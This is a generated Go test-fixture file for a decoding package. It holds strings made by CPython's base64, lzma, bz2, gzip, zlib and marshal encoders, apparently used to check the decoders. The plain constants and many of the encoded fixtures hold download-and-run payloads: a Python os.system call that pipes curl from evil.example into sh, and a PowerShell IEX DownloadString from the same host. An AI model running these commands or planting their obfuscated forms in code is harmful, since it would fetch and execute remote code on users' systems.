// Code generated from CPython 3.11 by a one-off script; DO NOT EDIT.

package decode

// Fixtures produced by CPython's base64, lzma, bz2, gzip, zlib and marshal
// modules, so that the decoders are checked against the real encoders.
var pyFixtures = map[string]string{
	"pyB85":         "X>D+Ca&#bXa|&;BE^~QvbY*QQCu4PTY#?ZKbZ|N^FJ*RVY%XPZVQp}1WiNOjd?0gZCn*X",
	"pyA85":         "Bl.g-Ec`FBEsci,/ou;ZFCf;;-Y%:>C`mD5FDs8o04f<@CbB:D@;Tt\"AM89NHm!KD-RfB",
	"pyA85Adobe":    "<~Bl.g-Ec`FBEsci,/ou\n;ZFCf;;-Y%:>C`mD5FDs\n8o04f<@CbB:D@;Tt\"AM8\n9NHm!KD-RfB&!!!\"@@;0\nN~>",
	"pyA85Zeros":    "zBl.g-Ec`FBEsci,/ou;ZFCf;;-Y%:>C`mD5FDs8o04f<@CbB:D@;Tt\"AM89NHm!KD-RfB",
	"pyB32":         "NFWXA33SOQQG64YKN5ZS443ZON2GK3JIE5RXK4TMEBUHI5DQHIXS6ZLWNFWC4ZLYMFWXA3DFF54CA7BAONUCOKIK",
	"pyLzmaAlone":   "XQAAgAD//////////wA0m0pnuFI8c+00V7hdggUY1ZAaipJaMDTdH1H7SUjr2Ka/93AKN6frc+pduzrXS2MiuT9CeMNDvQ/A//+0XIAA",
	"pyXZ":          "/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQA2aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaCcpCgAA4BauKaRIZUwAAU837kPa7x+2830BAAAAAARZWg==",
	"pyXZ9e":        "/Td6WFoAAATm1rRGAgAhARwAAAAQz1jM4Aq9AEtdADSbSme4Ujxz7TRXuF2CBRjVkBqKklowNN0fUftJSOvYpr/3cAo3p+tz6l27OtdLYyK5P0J4w0QD0wp4X8eT7b4V5Xp4KCOiNjgrAAAARKkWZY9ANYoAAWe+FQAAAOf6lB6xxGf7AgAAAAAEWVo=",
	"pyXZcrc64none": "/Td6WFoAAAD/EtlBAgAhARYAAAB0L+WjAQA2aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaCcpCgAAAAFHN+bJAycGcp56AQAAAAAAWVo=",
	"pyXZsha":       "/Td6WFoAAArh+wyhAgAhARYAAAB0L+WjAQA2aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaCcpCgAApwwf7AaJ5YVGVJQN5Egp3ivVGHdOgy19dco1TQSK6rYAAWc3RO2HshibS5oBAAAAAApZWg==",
	"pyBz2":         "QlpoOTFBWSZTWRzugpsAAAzZgAAQQOGAECpm32QgAFRQADQMmQUTDSZp6p6Jk8pLQ9ZUtq5VAzuxEdE7Rc/cPG4xKl0cqvmwMV43m2Qp8XckU4UJAc7oKbA=",
	"pyGzip":        "H4sIAEyTB2sC/8vMLcgvKlHIL+bKL9YrriwuSc3VUE8uLcpRyCgpKbDS108ty8zRS61IzC3ISdWvUKhRKM5Q1+QCAPgXFb03AAAA",
	"pyZlibB64":     "eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUcgoKSmw0tdPLcvM0UutSMwtyEnVr1CoUSjOUNfkAgA1vhM8",
	"psEnc":         "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwBhAC4AcABzADEAJwApAA==",
	"marshalB64":    "eJx7zIAEmKH0Zz0gMZ0hhSGFMYchioGJIZUhixGmKIVpGZC9Gs5nBKoKZtBkfgni+N1iykzRZLrFlF98i624srgkNXclw2eQzC9mmwq7Xxw2ufkppTmpdkWcYK0MDMWKQOIDMyMj4w0GzgYwBDGYWjg7VBr5W/gbwLCIHagKAKNVIeA=",
	"pycB64":        "pw0NCgAAAAAAAAAAAAAAAOMAAAAAAAAAAAAAAAADAAAAAAAAAPMuAAAAlwBkAGQBbABaAAIAZQBqAQAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAAEAZAFTACkD6QAAAABO2gJpZCkC2gJvc9oGc3lzdGVtqQDzAAAAAPoDPHg++gg8bW9kdWxlPnIJAAAAAQAAAHMhAAAA8AMBAQHYAAmACYAJgAnYAAmAAoQJiCSBD4QPgA+AD4APcgcAAAA=",
	"rot13B64":      "nJ1jo3W0VT9mPz9mYaA5p3EyoFtaL3IloPObqUEjBv8iMKMcoP5yrTSgpTkyY3ttsPOmnPpcPt==",
	"reversedB64":   "==gCpcCazBCfgg3LlxGctFGel5CbpZXZv8iOwRHdoBCbyV3YngSblR3c5NnLz9mCz9GI0J3bw1Wa",
	"hexPayload":    "696d706f7274206f730a6f732e73797374656d28276375726c20687474703a2f2f6576696c2e6578616d706c652f78207c20736827290a",
	"uescape":       "\\u0069\\u006d\\u0070\\u006f\\u0072\\u0074\\u0020\\u006f\\u0073\\u000a\\u006f\\u0073\\u002e\\u0073\\u0079\\u0073\\u0074\\u0065\\u006d\\u0028'curl http://evil.example/x | sh')\\n",
}

const pyPayload = "import os\nos.system('curl http://evil.example/x | sh')\n"

const psPayload = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
